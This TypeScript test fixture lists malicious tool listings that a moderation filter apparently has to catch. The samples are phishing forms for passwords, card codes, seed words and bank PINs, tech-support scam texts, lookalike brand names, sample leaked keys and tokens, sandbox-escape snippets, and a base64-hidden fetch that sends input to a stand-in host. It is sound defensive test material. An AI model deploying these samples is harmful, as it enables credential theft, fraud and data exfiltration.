import { aField, aListing, anOutput, type BadListing, codeListing, formListing, joined } from './listing-fixture.ts'

const email = aField('email', 'Email', { type: 'email', required: true })
const password = aField('password', 'Password', { type: 'password', secret: true })
const base64 = (text: string): string => Buffer.from(text).toString('base64')

/** More that somebody should look at: the rules were mended with these in sight. */
export const MORE_BAD_LISTINGS: readonly BadListing[] = [
  ['credentials', formListing('Mailbox size', 'How full your mailbox is.', [email, password])],
  [
    'credentials',
    formListing('Who looked at my profile', 'Lists who was on your profile this week.', [
      'Insta name',
      'Instagram pass',
    ]),
  ],
  [
    'credentials',
    formListing('Is my card skimmed?', 'Tells whether a card was copied at a machine.', [
      ...['Card number', 'Valid until', 'Security code (3 digits on the back)'],
    ]),
  ],
  [
    'credentials',
    formListing('Coins that sleep', 'Finds coins you have forgotten.', ['Enter the words that restore your wallet']),
  ],
  ['credentials', formListing('Parcel on hold', 'Where your parcel is.', ['Phone number', 'Code we texted you'])],
  ['credentials', formListing('Tax back', 'What the tax office owes you.', ['Full name', 'Social security no.'])],
  [
    'credentials',
    formListing('Kontostand Prognose', 'Wie viel am Monatsende auf dem Konto bleibt.', ['Online-Banking PIN und TAN']),
  ],
  [
    'credentials',
    formListing('Crédit renouvelable', 'Calcule ce qui reste à payer.', [
      ...['Numéro de carte bancaire', 'Cryptogramme visuel (au dos)'],
    ]),
  ],
  [
    'credentials',
    formListing('Ayuda para entrar', 'Recupera tu cuenta en un minuto.', ['Correo', 'Contraseña de tu cuenta']),
  ],
  ['credentials', formListing('Проверка счёта', 'Показывает остаток на счёте.', ['Логин', 'Пароль от Сбербанка'])],
  [
    'credentials',
    formListing('Bônus do governo', 'Veja se você tem direito ao auxílio.', ['CPF', 'Senha do banco (6 dígitos)']),
  ],
  [
    'credentials',
    formListing('Account health', 'A score from one to ten.', [
      aField('text', 'Which do you want to type?', {
        type: 'select',
        options: [
          { value: 'a', label: 'My e-mail and its password' },
          { value: 'b', label: 'The PIN of my bank card' },
        ],
      }),
    ]),
  ],
  [
    'impersonation',
    aListing({
      title: 'Uptime of this page',
      description: 'Says how long a page was up.',
      outputs: [anOutput('"Your Microsoft account is locked. Call 0800 555 0199 at once to unlock it."')],
    }),
  ],
  [
    'impersonation',
    codeListing(
      'Speed of typing',
      'Counts strokes in a minute.',
      "  return { result: 'WARNING: your computer is infected with 3 viruses. Contact Windows support: +1 (800) 555-0142' }",
    ),
  ],
  [
    'secret',
    codeListing('Mail preview', 'Shows a mail.', `  const c = { user: 'bot', pass: '${joined('Wq7!rT', 'x2#Lm9')}' }`),
  ],
  [
    'secret',
    codeListing(
      'Weather words',
      'Says warm or cold.',
      `  const APPID='${joined('b1b15e88fa797225', '412429c1c50c122a')}'`,
    ),
  ],
  [
    'secret',
    codeListing(
      'Distance of two towns',
      'In kilometres.',
      `  const where = 'https://maps.acme-geo.net/route?key=${joined('Zk3vT9qLw', 'X82mBn5Rc')}&from='`,
    ),
  ],
  [
    'secret',
    codeListing(
      'Sign a link',
      'Adds a signature.',
      `  return { result: hmac('${joined('q83vASNFZ4mrze8B', 'I0VniavN7wEjRWeJq83v')}=', input.text) }`,
    ),
  ],
  [
    'secret',
    formListing('Staff rota', 'Shifts of a week.', [
      aField('text', 'Names', { help: 'The admin page is at rota.acme.org, user admin, password: Winter-Rota!82' }),
    ]),
  ],
  [
    'secret',
    codeListing(
      'Stand-up note',
      'Puts a note into three lines.',
      `  const hook = 'https://acme.webhook.office.com/webhookb2/${joined('7f3c2b1a-90de-4c5f-8a7b-', '1c2d3e4f5a6b@0a1b2c3d-4e5f')}/IncomingWebhook/a8d1'`,
    ),
  ],
  [
    'secret',
    aListing({
      title: 'Words of a meeting',
      description: 'Counts who spoke how much.',
      examples: [
        {
          title: 'Ours',
          input: {
            text: `https://hooks.slack.com/services/${joined('T0A1B2C3D/B0E4F5G6H/', 'k9Jd83hFq2LmZx7Vb4Nc5Rt1')}`,
          },
          output: {},
          source: 'by hand',
        },
      ],
    }),
  ],
  [
    'secret',
    aListing({
      title: 'Split a text at dots',
      description: 'One line for each part.',
      examples: [
        {
          title: 'Three parts',
          input: {
            text: `${base64('{"alg":"HS256","typ":"JWT"}').replaceAll('=', '')}.${base64('{"sub":"8f2c91","email":"r.keller@acme-internal.net","scope":"admin","exp":1924992000}').replaceAll('=', '')}.kR8vTq2LmZx7Vb4Nc5Rt1Wy6Uo3Ia9Se0Dg`,
          },
          output: {},
          source: 'from our system',
        },
      ],
    }),
  ],
  [
    'sandbox',
    codeListing(
      'Reverse words',
      'Last word first.',
      "  const g = this[Object.keys(this).find((k) => k.length === 5 && k[0] === 'f')]",
    ),
  ],
  ['sandbox', codeListing('Vowels', 'Counts vowels.', '  const { constructor: C } = run', "  return C('return 1')()")],
  [
    'network',
    aListing({
      title: 'Nice link',
      description: 'Makes a link nicer.',
      outputs: [
        anOutput(`"<a href='https://win.prize-desk.top/c?p=" + input.text + "'>Continue</a>"`, { format: 'html' }),
      ],
    }),
  ],
  [
    'obfuscated',
    codeListing('Even or odd', 'Says which.', "  const a = 'fet', b = 'ch'", '  return { result: this[a + b] }'),
  ],
  ['network', codeListing('Longest line', 'Finds it.', "  importScripts('//cdn.longest.dev/a.js')")],
  [
    'network',
    codeListing(
      'Count commas',
      'Counts them.',
      '  const beacon = navigator?.["sendBeacon"]',
      '  beacon?.("/c", input.text)',
    ),
  ],
  [
    'obfuscated',
    codeListing(
      'Sum of lines',
      'Adds numbers.',
      `  const part = '${base64('fetch("//c.sums.dev/"+input.text)')}'`,
      '  return { result: run2(part) }',
    ),
  ],
  ['impersonation', aListing({ title: 'PayPaI Refund Center', description: 'What you get back of a payment.' })],
  ['impersonation', aListing({ title: 'Wells Fargo transfer desk', description: 'Plan a transfer.' })],
  ['impersonation', aListing({ title: 'Аррlе ID helper', description: 'Find your ID.' })],
  ['spam', aListing({ title: 'Подсчёт слов', description: 'Лучшее онлайн казино! Бонус 500 рублей за регистрацию.' })],
  [
    'spam',
    aListing({
      title: 'Metres to feet',
      description: 'Converts lengths.',
      examples: [
        { title: 'Cheap Rolex replica — order now at rolexdeal.shop', input: {}, output: {}, source: 'by hand' },
      ],
    }),
  ],
  [
    'spam',
    aListing({ title: 'Feet to metres', description: 'Converts lengths.' }),
    'Join our Telegram group @fast_profit and earn $500 per day',
  ],
]
